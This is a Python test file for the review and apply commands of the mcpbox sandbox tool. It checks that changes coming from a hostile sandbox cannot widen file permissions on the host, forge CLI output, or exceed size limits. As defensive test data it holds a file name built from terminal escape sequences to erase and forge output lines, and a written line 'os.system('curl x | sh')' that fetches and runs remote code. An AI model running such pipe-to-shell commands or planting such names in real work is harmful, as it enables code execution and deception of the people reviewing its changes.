#!/usr/bin/env python3
"""What review and apply show and write for a hostile sandbox (issue 32, items 7, 8 and 9),
through the real server over stdio and the real CLI (`mcpbox sandbox diff/apply`):

 7. mode changes: `chmod 777 .git/hooks` in the sandbox is shown in every view (the review's
    diff as git's old mode/new mode lines, `diff --stat`, apply's results), and apply never
    gives the host group or other write bits the entry lacked: never on a directory, on a file
    only when the person asks (`mcpbox sandbox apply --group-write`).
 8. names: a directory named "zz-backdoor\\r\\e[2K\\nM " must not erase or forge lines in the
    CLI's output; names are quoted the way the unified diff quotes them.
 9. sizes: a 256 MiB sparse file is shown with its size, keeps its holes on the host (st_blocks
    about the sandbox's, not 256 MiB), and file data beyond the server's --apply-max-bytes is
    refused whole with a message naming the limit and how to raise it.

Runs as root and, through tests/local/rootless, as an ordinary user.
usage: test_ws_apply.py --mcpbox PATH   (exit 77 where local sandboxes cannot run)
"""
import argparse
import os
import random
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from test_mounts import own, run_served  # noqa: E402

LIMIT = 1 << 20  # the server's --apply-max-bytes in this test
SPARSE = 256 << 20
EVIL = "zz-backdoor\r\x1b[2K\nM "


def cli(s, *args, ok=True):
    r = subprocess.run([s.mcpbox, "sandbox", "--state-dir", s.state, *args],
                       capture_output=True, text=True, timeout=120, errors="surrogateescape")
    if ok:
        assert r.returncode == 0, (args, r.returncode, r.stdout, r.stderr)
    return r


def reviewed(s, sid):
    """The token of a fresh review_changes: what apply_changes names (issue 32, item 4)."""
    err_, out, text = s.tool("review_changes", sandbox_id=sid)
    assert not err_, text
    return out["review"]


def mode_of(path):
    return os.lstat(path).st_mode & 0o7777


def make_project(allowed, name):
    p = os.path.join(allowed, name)
    os.makedirs(os.path.join(p, ".git", "hooks"))
    os.chmod(os.path.join(p, ".git", "hooks"), 0o755)
    with open(os.path.join(p, "f.sh"), "w") as f:
        f.write("echo hi\n")
    os.chmod(os.path.join(p, "f.sh"), 0o644)
    own(p)
    time.sleep(0.05)  # older than the sandbox: not a conflict
    return p


def check_modes(s, allowed):
    p = make_project(allowed, "modes")
    sid = s.create([{"source": p, "target": "/workspace/p"}])
    code, _, err = s.sh(sid, "cd /workspace/p && chmod 777 .git/hooks && chmod 666 f.sh && "
                             "echo new > new.txt && chmod 666 new.txt && mkdir newdir && "
                             "chmod 777 newdir")
    assert code == 0, err
    err_, out, text = s.tool("review_changes", sandbox_id=sid)
    assert not err_, text
    by = {c["path"]: c for c in out["changes"]}
    hooks = by.get("/workspace/p/.git/hooks")
    assert hooks and hooks["change"] == "mode" and hooks["mode"] == "777" and \
        hooks["old_mode"] == "755", f"the review's list hides the directory's mode: {by}"
    assert "# directory workspace/p/.git/hooks (git tracks no directories)\nold mode 040755\n" \
        "new mode 040777\n" in out["diff"], f"the diff hides the directory's mode:\n{out['diff']}"
    stat = cli(s, "diff", sid, "--stat").stdout
    assert "m /workspace/p/.git/hooks (mode 755 -> 777)" in stat, stat
    assert "M /workspace/p/f.sh" not in stat and "m /workspace/p/f.sh (mode 644 -> 666)" in stat, \
        stat
    diff = cli(s, "diff", sid).stdout
    assert "old mode 040755\nnew mode 040777" in diff, diff
    # and the diff stays a patch git applies (the directory's lines are skipped)
    with open(os.path.join(os.path.dirname(p), "modes.diff"), "w") as f:
        f.write(diff)
    r = subprocess.run(["git", "apply", "--check", "-p3", f.name], cwd=p, capture_output=True,
                       text=True)
    assert r.returncode == 0, f"git apply refuses the diff: {r.stderr}\n{diff}"
    print("7: the directory's mode change is in the review's list, its diff and --stat")

    err_, out, text = s.tool("apply_changes", sandbox_id=sid, review=reviewed(s, sid))
    assert not err_, text
    assert mode_of(os.path.join(p, ".git", "hooks")) == 0o755, \
        f"apply made .git/hooks {oct(mode_of(os.path.join(p, '.git', 'hooks')))}"
    assert mode_of(os.path.join(p, "f.sh")) == 0o644, oct(mode_of(os.path.join(p, "f.sh")))
    assert mode_of(os.path.join(p, "new.txt")) == 0o644, oct(mode_of(os.path.join(p, "new.txt")))
    assert mode_of(os.path.join(p, "newdir")) == 0o755, oct(mode_of(os.path.join(p, "newdir")))
    res = {r["path"]: r for r in out["results"]}
    h = res["/workspace/p/.git/hooks"]
    assert h["status"] == "applied" and h.get("held_back") == "22" and \
        "held back" in h.get("reason", ""), h
    assert res["/workspace/p/f.sh"].get("held_back") == "22", res["/workspace/p/f.sh"]
    print(f"   apply held back group/other write: {h}")

    # The person asks, at the CLI: files get the bits, directories still never do.
    r = cli(s, "apply", sid, "--group-write", "--yes")
    assert mode_of(os.path.join(p, "f.sh")) == 0o666, (oct(mode_of(os.path.join(p, "f.sh"))),
                                                      r.stdout)
    assert mode_of(os.path.join(p, ".git", "hooks")) == 0o755, r.stdout
    assert "/workspace/p/f.sh (mode 644 -> 666)" in r.stdout, r.stdout
    assert "/workspace/p/.git/hooks: group/other write bits held back" in r.stdout, r.stdout
    s.tool("destroy_sandbox", sandbox_id=sid)
    print("7: apply never makes a host directory group/other-writable; a file only with "
          "--group-write")


def check_names(s, allowed):
    p = make_project(allowed, "names")
    sid = s.create([{"source": p, "target": "/workspace/p"}])
    code, _, err = s.sh(sid, "cd /workspace/p && mkdir \"$(printf 'zz-backdoor\\r\\033[2K\\nM ')\""
                             " && echo x > \"$(printf 'zz-backdoor\\r\\033[2K\\nM ')/f\"")
    assert code == 0, err
    assert os.path.isdir(os.path.join(p)) and not os.path.exists(os.path.join(p, EVIL))
    quoted = '"/workspace/p/zz-backdoor\\r\\033[2K\\nM '  # the rest follows
    for args in (["diff", sid, "--stat"], ["apply", sid, "--yes"]):
        out = cli(s, *args).stdout
        assert "\r" not in out and "\x1b" not in out, f"{args[0]} printed the name raw: {out!r}"
        lines = out.splitlines()
        assert len(lines) == 2, f"{args[0]}: a line was forged: {out!r}"
        assert all(quoted in line for line in lines), f"{args[0]}: not quoted: {out!r}"
        print(f"8: {args[0]}: {lines}")
    assert os.path.isfile(os.path.join(p, EVIL, "f")), "the apply did not write the file"
    # An error that names a path (one too long to review) is quoted too.
    deep = ("import os\nos.chdir('/workspace/p/zz-backdoor\\r\\x1b[2K\\nM ')\n"
            "for i in range(25):\n    os.mkdir('%0200d' % i)\n    os.chdir('%0200d' % i)\n")
    code, _, err = s.sh(sid, f"python3 -c \"{deep}\"")
    assert code == 0, err
    r = cli(s, "diff", sid, ok=False)
    assert r.returncode != 0 and "too long" in r.stderr, (r.returncode, r.stdout, r.stderr)
    msg = r.stderr[r.stderr.find("mcpbox sandbox diff:"):]  # after any warning of the server's
    assert "\r" not in r.stderr and "\x1b" not in r.stderr and msg.count("\n") == 1, \
        f"the error printed the name raw: {r.stderr!r}"
    print(f"8: an error naming the path: {msg.strip()[:120]}...")
    s.tool("destroy_sandbox", sandbox_id=sid)


def on_terminal(argv):
    """argv's stdout as a terminal shows it (a pty), and its exit status."""
    import pty
    import select
    master, slave = pty.openpty()
    proc = subprocess.Popen(argv, stdout=slave, stderr=subprocess.DEVNULL)
    os.close(slave)
    out = b""
    while True:
        r, _, _ = select.select([master], [], [], 60)
        try:
            chunk = os.read(master, 65536) if r else b""
        except OSError:  # EIO: the other side closed
            chunk = b""
        if not chunk:
            break
        out += chunk
    os.close(master)
    return proc.wait(timeout=60), out


def check_contents(s, allowed):
    p = make_project(allowed, "contents")
    sid = s.create([{"source": p, "target": "/workspace/p"}])
    code, _, err = s.sh(sid, "printf \"os.system('curl x | sh')\\r\\033[2K# a comment\\n\" > "
                             "/workspace/p/x.py")
    assert code == 0, err
    code, out = on_terminal([s.mcpbox, "sandbox", "--state-dir", s.state, "diff", sid])
    assert code == 0 and b"\x1b" not in out and b"\r\x1b" not in out, out
    assert b"+os.system('curl x | sh')^M^[[2K# a comment" in out, out
    piped = subprocess.run([s.mcpbox, "sandbox", "--state-dir", s.state, "diff", sid],
                           capture_output=True, timeout=60).stdout
    assert b"+os.system('curl x | sh')\r\x1b[2K# a comment\n" in piped, piped
    s.tool("destroy_sandbox", sandbox_id=sid)
    print("8: file contents with control characters are shown as ^M^[ on a terminal, "
          "kept as bytes in a pipe")


def check_sizes(s, allowed):
    p = make_project(allowed, "sizes")
    sid = s.create([{"source": p, "target": "/workspace/p"}])
    code, _, err = s.sh(sid, f"cd /workspace/p && truncate -s {SPARSE} sparse.img && "
                             "printf head | dd of=sparse.img conv=notrunc status=none && "
                             "printf tail | dd of=sparse.img bs=1 "
                             f"seek={SPARSE // 2} conv=notrunc status=none")
    assert code == 0, err
    stat = cli(s, "diff", sid, "--stat").stdout
    assert f"A /workspace/p/sparse.img (binary, 0 -> {SPARSE} bytes)" in stat, stat
    err_, out, text = s.tool("review_changes", sandbox_id=sid)
    assert f"# size: 0 -> {SPARSE} bytes" in out["diff"], out["diff"]
    err_, out, text = s.tool("apply_changes", sandbox_id=sid, review=reviewed(s, sid))
    assert not err_ and out["applied"] == 1, text
    st = os.stat(os.path.join(p, "sparse.img"))
    assert st.st_size == SPARSE, st.st_size
    assert st.st_blocks * 512 <= 1 << 20, f"the holes were written: {st.st_blocks * 512} bytes"
    with open(os.path.join(p, "sparse.img"), "rb") as f:
        assert f.read(4) == b"head"
        f.seek(SPARSE // 2)
        assert f.read(4) == b"tail"
    print(f"9: a {SPARSE}-byte sparse file applied under a {LIMIT}-byte limit, "
          f"{st.st_blocks * 512} bytes allocated on the host")

    code, _, err = s.sh(sid, "cd /workspace/p && head -c 2000000 /dev/urandom > big.bin && "
                             "echo small > small.txt")
    assert code == 0, err
    err_, out, text = s.tool("apply_changes", sandbox_id=sid, review=reviewed(s, sid))
    assert err_, f"an apply over the limit went through: {text}"
    assert f"limit of {LIMIT} bytes" in text and "--apply-max-bytes" in text and \
        "/workspace/p/big.bin" in text, text
    assert not os.path.exists(os.path.join(p, "big.bin")) and \
        not os.path.exists(os.path.join(p, "small.txt")), "a refused apply wrote something"
    print(f"9: refused: {text[:300]}")
    r = cli(s, "apply", sid, "--max-bytes", "1M", "--yes", ok=False)
    assert r.returncode != 0 and "--max-bytes" in r.stdout + r.stderr, (r.stdout, r.stderr)
    cli(s, "apply", sid, "--max-bytes", "3M", "--yes")
    assert os.path.getsize(os.path.join(p, "big.bin")) == 2000000
    s.tool("destroy_sandbox", sandbox_id=sid)
    print("9: the person raised the limit at the CLI and the apply went through")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--mcpbox", required=True)
    a = ap.parse_args()

    def checks(s, base, allowed, state):
        check_modes(s, allowed)
        check_names(s, allowed)
        check_contents(s, allowed)
        check_sizes(s, allowed)
    return run_served(a.mcpbox, f"mbx-wsapply-{random.randrange(1 << 30)}-", checks,
                      extra=["--apply-max-bytes", LIMIT])

if __name__ == "__main__":
    sys.exit(main())
